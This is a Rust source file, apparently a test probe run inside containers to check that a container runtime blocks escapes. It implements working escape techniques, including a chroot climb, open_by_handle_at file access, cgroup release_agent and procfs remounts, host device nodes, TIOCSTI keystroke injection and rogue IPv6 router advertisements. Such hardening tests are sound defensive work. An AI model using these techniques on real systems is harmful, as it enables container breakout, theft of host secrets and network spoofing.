//! The attacks: what somebody does who is in a container and wants out.
//!
//! They are in this test program, which is put into the containers: `/probe !NAME WORDS...`. Each prints
//! what it has got, or ends with the error that stopped it.

use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{Read as _, Write as _};
use std::os::fd::{AsRawFd as _, BorrowedFd, RawFd};
use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _};
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Command, ExitCode};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail, ensure};
use nix::errno::Errno;
use nix::fcntl::{OFlag, open, openat};
use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sched::{CloneFlags, setns, unshare};
use nix::sys::ptrace;
use nix::sys::signal::{Signal, kill};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use nix::unistd::{Pid, Uid, chdir, chroot, fchdir, setuid};

const NONE: Option<&str> = None;

/// Does what the command line says, if it names an attack.
pub fn main() -> Option<ExitCode> {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let name = words.first()?.strip_prefix('!')?;
    let words: Vec<_> = words[1..].iter().map(String::as_str).collect();
    Some(match attack(name, &words) {
        Ok(got) => {
            println!("{got}");
            ExitCode::SUCCESS
        }
        Err(error) => {
            eprintln!("attack: {error:#}");
            ExitCode::FAILURE
        }
    })
}

fn attack(name: &str, words: &[&str]) -> Result<String> {
    match (name, words) {
        ("climb", [secret, jail @ ..]) => climb(Path::new(secret), jail.first()),
        ("walk", [secret]) => walk(Path::new(secret)),
        ("careless", [jail, what, path, rest @ ..]) => careless(jail, what, path, rest),
        ("chmod-exe", []) => chmod_exe("self"),
        ("chmod-exes", []) => chmod_exes(),
        ("look-into", [pid, secret]) => look_into(pid, secret),
        ("look-into-all", [secret]) => look_into_all(secret),
        ("join", [pid]) => join(pid),
        ("masks", paths) => masks(paths),
        ("mounts", [root]) => mounts_of(root),
        ("handle", [volume, handle]) => handle_in(volume, handle),
        ("disk", [directory, kind, major, minor]) => {
            disk(Path::new(directory), kind, major.parse()?, minor.parse()?)
        }
        ("become", [id, program, args @ ..]) => {
            setuid(Uid::from_raw(id.parse()?))?;
            Err(Command::new(program).args(args).exec().into())
        }
        ("setting", [path]) => setting(path),
        ("cgroup", []) => cgroup(),
        ("peek", []) => peek(),
        ("key", [name]) => key(name),
        ("user-namespace", []) => user_namespace(),
        ("calls", []) => Ok(calls()),
        ("old-door", []) => old_door(),
        ("inheritable", []) => inheritable(),
        ("signal", [pid]) => {
            kill(Pid::from_raw(pid.parse()?), Signal::SIGTERM)?;
            Ok("signalled".into())
        }
        ("trace", [pid]) => {
            ptrace::seize(Pid::from_raw(pid.parse()?), ptrace::Options::empty())?;
            Ok("traced".into()) // and let go of with our end
        }
        ("type", [text]) => type_in(text),
        ("listen", []) => listen(),
        ("connect", [name]) => connect(name),
        ("advertise", [prefix]) => advertise(prefix),
        _ => bail!("no attack {name} with {words:?}"),
    }
}

/// The classic: chroot(2) moves the root and not the working directory. Who is below a new root with a
/// directory above it is not held by that root, and ".." leads up to the real one.
fn climb(secret: &Path, jail: Option<&&str>) -> Result<String> {
    if let Some(&jail) = jail {
        chroot(jail)?; // what a weak runtime does
        chdir("/")?;
    }
    let above = open(".", OFlag::O_DIRECTORY, Mode::empty())?;
    fs::create_dir_all("below")?;
    chroot("below")?;
    fchdir(&above)?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(fs::read_to_string(secret)?)
}

/// From every open directory, and from the working directory, up as far as it goes and down to the
/// secret.
fn walk(secret: &Path) -> Result<String> {
    let secret = Path::new(&"../".repeat(64)).join(secret.strip_prefix("/")?);
    let mut last = None;
    for fd in std::iter::once(libc::AT_FDCWD).chain(0..128) {
        // SAFETY: whatever the number means, it is only handed to the kernel.
        let directory = unsafe { BorrowedFd::borrow_raw(fd) };
        match openat(directory, &secret, OFlag::O_RDONLY, Mode::empty()) {
            Ok(file) => return Ok(std::io::read_to_string(File::from(file))?),
            Err(Errno::EBADF) => {}
            Err(errno) => last = Some(errno),
        }
    }
    bail!("no open file leads there: {last:?}")
}

/// A weak runtime, from where a container has its root to its exec: it has a directory of the host
/// open, as all runtimes have, and takes paths in the container as they come.
fn careless(jail: &str, what: &str, path: &str, rest: &[&str]) -> Result<String> {
    let host = open("/", OFlag::O_DIRECTORY | OFlag::O_CLOEXEC, Mode::empty())?;
    // SAFETY: nothing here owns the number 9.
    let host = unsafe { nix::unistd::dup3_raw(host, 9, OFlag::O_CLOEXEC) }?;
    for shown in ["/proc", "/usr"] {
        let place = Path::new(jail).join(&shown[1..]);
        mount(Some(shown), &place, NONE, MsFlags::MS_BIND | MsFlags::MS_REC, NONE)?;
    }
    chroot(jail)?;
    chdir("/")?;
    match what {
        // Changes to the working directory.
        "chdir" => {
            chdir(path)?;
            drop(host);
            walk(Path::new(rest[0]))
        }
        // Opens a device that is to be the program's input.
        "open" => {
            let device = File::open(path)?;
            drop(host);
            let got = walk(Path::new(rest[0]));
            drop(device);
            got
        }
        // Executes the program.
        "exec" => Err(Command::new(path).args(rest).exec().into()),
        // Writes a file in /etc.
        "write" => {
            fs::write(path, rest[0])?;
            Ok(fs::read_to_string("/proc/sys/kernel/hostname")?)
        }
        // Hides a file below what it takes for /dev/null.
        "mask" => {
            mount(Some(path), rest[0], NONE, MsFlags::MS_BIND, NONE)?;
            OpenOptions::new().write(true).open(rest[0])?; // and writes nothing
            Ok("it can be written".into())
        }
        // Mounts a volume.
        "volume" => {
            mount(Some(rest[0]), path, NONE, MsFlags::MS_BIND, NONE)?;
            mounts_of(rest[1])
        }
        other => bail!("no carelessness {other}"),
    }
}

/// Makes the program that this process came from writable for everybody.
fn chmod_exe(pid: &str) -> Result<String> {
    let exe = format!("/proc/{pid}/exe");
    let link = fs::read_link(&exe)?;
    fs::set_permissions(&exe, fs::Permissions::from_mode(0o777))?;
    Ok(format!("changed {}", link.display()))
}

/// How long somebody lies in wait; only a test that fails lets them.
const WAIT: Duration = Duration::from_secs(100);

/// The same with the program of everybody who comes in.
fn chmod_exes() -> Result<String> {
    println!("ready");
    let start = Instant::now();
    while start.elapsed() < WAIT {
        for pid in others()? {
            if let Ok(changed) = chmod_exe(&pid) {
                println!("{changed}");
            }
        }
    }
    bail!("it is late")
}

/// All processes that we see but ourselves.
fn others() -> Result<Vec<String>> {
    let own = std::process::id().to_string();
    let names =
        fs::read_dir("/proc")?.filter_map(|entry| entry.ok()?.file_name().into_string().ok());
    Ok(names.filter(|name| *name != own && name.parse::<u32>().is_ok()).collect())
}

/// Into the root directory of another process.
fn look_into(pid: &str, secret: &str) -> Result<String> {
    Ok(fs::read_to_string(format!("/proc/{pid}/root{secret}"))?)
}

/// Into every open file of everybody who comes in.
fn look_into_all(secret: &str) -> Result<String> {
    println!("ready");
    let start = Instant::now();
    while start.elapsed() < WAIT {
        for pid in others()? {
            println!("saw {pid}");
            for fd in 0..32 {
                if let Ok(text) = fs::read_to_string(format!("/proc/{pid}/fd/{fd}{secret}")) {
                    println!("{text}");
                }
            }
        }
    }
    bail!("it is late")
}

/// A careless runtime that joins a container: it brings along the host's root directory, open.
fn join(pid: &str) -> Result<String> {
    let root = open("/", OFlag::O_DIRECTORY, Mode::empty())?;
    setns(File::open(format!("/proc/{pid}/ns/pid"))?, CloneFlags::CLONE_NEWPID)?;
    let status = Command::new("sleep").arg("1000").status()?;
    drop(root);
    bail!("{status}")
}

/// Masked files that are something else than the device null.
fn masks(paths: &[&str]) -> Result<String> {
    let open = paths.iter().filter(|path| {
        fs::metadata(path).is_ok_and(|file| !file.is_dir() && file.rdev() != makedev(1, 3))
    });
    let open: Vec<_> = open.copied().collect();
    ensure!(!open.is_empty(), "all of them are null or a directory");
    Ok(open.join(" "))
}

/// Where the host's directory with this name is mounted.
fn mounts_of(root: &str) -> Result<String> {
    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
    let places: Vec<_> = mounts
        .lines()
        .map(|line| line.split(' ').collect::<Vec<_>>())
        .filter(|fields| fields[3].ends_with(root))
        .map(|fields| fields[4])
        .collect();
    Ok(places.join(" "))
}

/// A file by its handle: a number that can be guessed (shocker.c, 2014). One directory of the file
/// system is enough to have all of it.
fn handle_in(volume: &str, handle: &str) -> Result<String> {
    let volume = File::open(volume)?;
    let mut bytes =
        (0..handle.len()).step_by(2).map(|at| u8::from_str_radix(&handle[at..at + 2], 16));
    let mut bytes = bytes.by_ref().collect::<Result<Vec<u8>, _>>()?;
    let (volume, flags) = (volume.as_raw_fd(), libc::O_RDONLY);
    // SAFETY: bytes is a struct file_handle (open_by_handle_at(2)) and outlives the call.
    let fd =
        unsafe { libc::syscall(libc::SYS_open_by_handle_at, volume, bytes.as_mut_ptr(), flags) };
    let fd = RawFd::try_from(Errno::result(fd)?)?;
    Ok(fs::read_to_string(format!("/proc/self/fd/{fd}"))?)
}

/// A node for a device of the host, opened; nothing is read or written. In the directory, and if that
/// does not do, on a tmpfs of our own.
fn disk(directory: &Path, kind: &str, major: u64, minor: u64) -> Result<String> {
    let kind = if kind == "block" { SFlag::S_IFBLK } else { SFlag::S_IFCHR };
    let open_in = |directory: &Path| -> Result<String> {
        let node = directory.join("disk");
        mknod(&node, kind, Mode::S_IRUSR, makedev(major, minor)).context("mknod")?;
        let opened = File::open(&node).context("open");
        fs::remove_file(&node)?;
        opened.map(|_| "the disk is open".into())
    };
    open_in(directory).or_else(|first| {
        mount(Some("tmpfs"), "/mnt", Some("tmpfs"), MsFlags::empty(), NONE)
            .with_context(|| format!("{first:#}; then mount"))?;
        open_in(Path::new("/mnt"))
    })
}

/// Opens a setting of the kernel for writing, and writes nothing: as it is; with the read-only mount
/// above it changed back, or taken away; in a new procfs.
fn setting(path: &str) -> Result<String> {
    let open = |path: &str| OpenOptions::new().write(true).open(path);
    let first = match open(path) {
        Ok(_) => return Ok("open".into()),
        Err(error) => error,
    };
    let sys = "/proc/sys";
    let remount = mount(NONE, sys, NONE, MsFlags::MS_REMOUNT | MsFlags::MS_BIND, NONE);
    if remount.is_ok() && open(path).is_ok() {
        return Ok("open after a remount".into());
    }
    let unmount = umount2(sys, MntFlags::MNT_DETACH);
    if unmount.is_ok() && open(path).is_ok() {
        return Ok("open after an unmount".into());
    }
    let fresh = mount(Some("proc"), "/mnt", Some("proc"), MsFlags::empty(), NONE);
    if fresh.is_ok() && open(&path.replace("/proc", "/mnt")).is_ok() {
        return Ok("open in a new procfs".into());
    }
    bail!("{first}; remount {remount:?}; unmount {unmount:?}; new procfs {fresh:?}")
}

/// Mounts a cgroup hierarchy, with the rights that we have and then with those of a new user namespace;
/// opens the file that says which program the kernel runs on the host when a group is empty (and writes
/// nothing), and leaves its limits.
fn cgroup() -> Result<String> {
    let before = fs::read_to_string("/proc/self/cgroup")?;
    let pids = before.lines().find(|line| line.split(':').nth(1) == Some("pids"));
    let (kind, data) = if pids.is_some() { ("cgroup", Some("pids")) } else { ("cgroup2", NONE) };
    let attach = || mount(Some("x"), "/mnt", Some(kind), MsFlags::empty(), data);
    if let Err(first) = attach() {
        let spaces =
            CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP;
        unshare(spaces).with_context(|| format!("mount {first}; unshare"))?;
        attach().context("mount in a user namespace")?;
    }
    if kind == "cgroup" {
        OpenOptions::new().write(true).open("/mnt/release_agent").context("release_agent")?;
    }
    fs::write("/mnt/cgroup.procs", "0").context("cgroup.procs")?;
    let mine = fs::read_to_string("/proc/self/cgroup")?;
    let number = if kind == "cgroup" { ":pids:/" } else { "0::/" };
    ensure!(mine.lines().any(|line| line.ends_with(number)), "still in the group:\n{mine}");
    Ok("out of its cgroup".into())
}

/// What the kernel tells about the machine.
fn peek() -> Result<String> {
    let mut found = Vec::new();
    const READ_ALL: libc::c_int = 3; // syslog(2)
    let mut log = [0_u8; 4096];
    // SAFETY: the buffer has the size passed.
    if unsafe { libc::syscall(libc::SYS_syslog, READ_ALL, log.as_mut_ptr(), log.len()) } > 0 {
        found.push("syslog");
    }
    let symbols = fs::read_to_string("/proc/kallsyms").unwrap_or_default();
    if symbols.lines().any(|line| !line.starts_with("0000000000000000")) {
        found.push("/proc/kallsyms");
    }
    if fs::read_to_string("/proc/keys").is_ok_and(|keys| !keys.is_empty()) {
        found.push("/proc/keys");
    }
    for path in ["/proc/kcore", "/dev/kmsg", "/dev/mem"] {
        let read = |mut file: File| file.read(&mut [0; 8192]).is_ok_and(|len| len > 0);
        let opened = OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(path);
        if opened.is_ok_and(|file| path == "/dev/mem" || read(file)) {
            found.push(path);
        }
    }
    ensure!(!found.is_empty(), "nothing is told");
    Ok(found.join(" "))
}

/// The user's key of this name, from the session keyring that came with the process.
fn key(name: &str) -> Result<String> {
    const SEARCH: libc::c_int = 10; // linux/keyctl.h
    const READ: libc::c_int = 11;
    const SESSION: libc::c_int = -3;
    let name = CString::new(name)?;
    let kind = c"user".as_ptr();
    // SAFETY: the strings are NUL-terminated and outlive the call.
    let id = unsafe { libc::syscall(libc::SYS_keyctl, SEARCH, SESSION, kind, name.as_ptr(), 0) };
    let id = Errno::result(id).context("keyctl")?;
    let mut text = [0_u8; 64];
    // SAFETY: the buffer has the size passed.
    let len = unsafe { libc::syscall(libc::SYS_keyctl, READ, id, text.as_mut_ptr(), text.len()) };
    let len = usize::try_from(Errno::result(len).context("keyctl")?)?;
    Ok(String::from_utf8_lossy(&text[..len]).into_owned())
}

/// Every capability, over new namespaces; and with them a mount.
fn user_namespace() -> Result<String> {
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS).context("unshare")?;
    mount(Some("tmpfs"), "/mnt", Some("tmpfs"), MsFlags::empty(), NONE).context("mount")?;
    Ok("mounted".into())
}

/// System calls that have let containers out, or concern the whole machine; called with arguments that
/// make no sense, so that nothing happens where they are allowed. What each answers.
fn calls() -> String {
    let bad = -1_i64;
    let calls = [
        ("add_key", libc::SYS_add_key),
        ("bpf", libc::SYS_bpf),
        ("fanotify_init", libc::SYS_fanotify_init),
        ("fsopen", libc::SYS_fsopen),
        ("io_uring_setup", libc::SYS_io_uring_setup),
        ("keyctl", libc::SYS_keyctl),
        ("mount", libc::SYS_mount),
        ("move_mount", libc::SYS_move_mount),
        ("open_by_handle_at", libc::SYS_open_by_handle_at),
        ("open_tree", libc::SYS_open_tree),
        ("perf_event_open", libc::SYS_perf_event_open),
        ("pivot_root", libc::SYS_pivot_root),
        ("request_key", libc::SYS_request_key),
        ("setns", libc::SYS_setns),
        ("syslog", libc::SYS_syslog),
        ("umount2", libc::SYS_umount2),
        ("unshare", libc::SYS_unshare),
        ("userfaultfd", libc::SYS_userfaultfd),
    ];
    let answer = |&(name, number)| {
        // SAFETY: -1 is no valid file descriptor, address, command or set of flags, so that none of
        // these calls does anything but fail.
        let result = unsafe { libc::syscall(number, bad, bad, bad, bad, bad) };
        format!("{name} {:?}", Errno::result(result).err())
    };
    let mut answers: Vec<_> = calls.iter().map(answer).collect();
    // SAFETY: takes numbers only. (The socket is closed with us.)
    let hypervisor = unsafe { libc::socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0) };
    answers.push(format!("socket(AF_VSOCK) {:?}", Errno::result(hypervisor).err()));
    answers.join("\n")
}

/// unshare(2) through the door of 32-bit programs, where it has another number.
#[cfg(target_arch = "x86_64")]
fn old_door() -> Result<String> {
    const UNSHARE: u32 = 310; // arch/x86/entry/syscalls/syscall_32.tbl
    let answer: i32;
    // SAFETY: the call takes a number and touches no memory of ours; rbx, which is not ours to use, is
    // put back.
    unsafe {
        std::arch::asm!(
            "push rbx", "mov ebx, {flags:e}", "int 0x80", "pop rbx",
            flags = in(reg) libc::CLONE_NEWUSER,
            inlateout("eax") UNSHARE => answer,
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    ensure!(answer == 0, "{}", Errno::from_raw(-answer));
    Ok("a new user namespace".into())
}

#[cfg(not(target_arch = "x86_64"))]
fn old_door() -> Result<String> {
    bail!("only x86_64 has it")
}

/// Capabilities that a program could take over from its caller.
fn inheritable() -> Result<String> {
    let status = fs::read_to_string("/proc/self/status")?;
    let line =
        status.lines().find_map(|line| line.strip_prefix("CapInh:\t")).context("no CapInh")?;
    ensure!(line.trim_matches('0') != "", "there are none");
    Ok("inherited".into())
}

/// Types into the terminal, as if the user did (ioctl_tty(2), TIOCSTI).
fn type_in(text: &str) -> Result<String> {
    let terminal = File::options().read(true).write(true).open("/dev/tty");
    let terminals = terminal.iter().map(|file| file.as_raw_fd()).chain(0..3);
    let mut last = Errno::ENOTTY;
    for fd in terminals {
        let typed = text.bytes().chain([b'\n']).try_for_each(|byte| {
            // SAFETY: the pointer is to one byte, which outlives the call.
            Errno::result(unsafe { libc::ioctl(fd, libc::TIOCSTI, &raw const byte) }).map(drop)
        });
        match typed {
            Ok(()) => return Ok("typed".into()),
            Err(errno) => last = errno,
        }
    }
    Err(last).context("TIOCSTI")
}

/// Reads what the user types, from where we are only to write to.
fn listen() -> Result<String> {
    println!("ready");
    let mut typed = [0; 64];
    for fd in ["/proc/self/fd/1", "/proc/self/fd/2"] {
        let opened = File::open(fd)?;
        if nix::unistd::isatty(&opened)? {
            let len = { &opened }.read(&mut typed)?;
            return Ok(format!("heard {}", String::from_utf8_lossy(&typed[..len])));
        }
    }
    bail!("no terminal")
}

/// To a Unix socket with a name that is in no file system (unix(7), "abstract").
fn connect(name: &str) -> Result<String> {
    use std::os::linux::net::SocketAddrExt as _;
    use std::os::unix::net::{SocketAddr, UnixStream};
    let mut stream = UnixStream::connect_addr(&SocketAddr::from_abstract_name(name)?)?;
    let mut text = String::new();
    stream.read_to_string(&mut text)?;
    Ok(text)
}

/// "I am a router, and this is my network" (RFC 4861): to everybody on the bridge.
fn advertise(prefix: &str) -> Result<String> {
    let address = own_link_local()?;
    let prefix: std::net::Ipv6Addr = prefix.parse()?;
    // Router advertisement: type, code, checksum (the kernel's), hop limit, flags, lifetime 1800 s,
    // times; option prefix information: on-link and autonomous, for 1800 s.
    let mut packet = vec![134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0];
    packet.extend([3, 4, 64, 0xc0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0]);
    packet.extend(prefix.octets());
    let socket = icmp6_to_all_nodes()?;
    (&socket).write_all(&packet).context("send")?;
    Ok(address)
}

fn own_link_local() -> Result<String> {
    let start = Instant::now();
    loop {
        // Address, index, prefix length, scope 20 (link), flags 80 (permanent, not tentative), name.
        let list = fs::read_to_string("/proc/net/if_inet6")?;
        let ready = list.lines().map(|line| line.split_whitespace().collect::<Vec<_>>());
        if let Some(found) = ready.filter(|f| f[5] == "eth0" && f[3] == "20" && f[4] == "80").next()
        {
            return Ok(found[0].to_owned());
        }
        ensure!(start.elapsed() < Duration::from_secs(20), "eth0 has no IPv6 address:\n{list}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A raw ICMPv6 socket that sends to all nodes on eth0 with hop limit 255.
fn icmp6_to_all_nodes() -> Result<File> {
    use nix::sys::socket::{
        AddressFamily, SockFlag, SockProtocol, SockType, SockaddrIn6, connect, socket,
    };
    let fd =
        socket(AddressFamily::Inet6, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::IcmpV6)
            .context("raw socket")?;
    let hops: libc::c_int = 255;
    // SAFETY: the pointer is to an int, whose size is passed.
    Errno::result(unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            libc::IPPROTO_IPV6,
            libc::IPV6_MULTICAST_HOPS,
            (&raw const hops).cast(),
            4,
        )
    })?;
    let eth0 = nix::net::if_::if_nametoindex("eth0")?;
    let everybody = std::net::SocketAddrV6::new("ff02::1".parse()?, 0, 0, eth0);
    connect(fd.as_raw_fd(), &SockaddrIn6::from(everybody)).context("connect")?;
    Ok(File::from(fd))
}
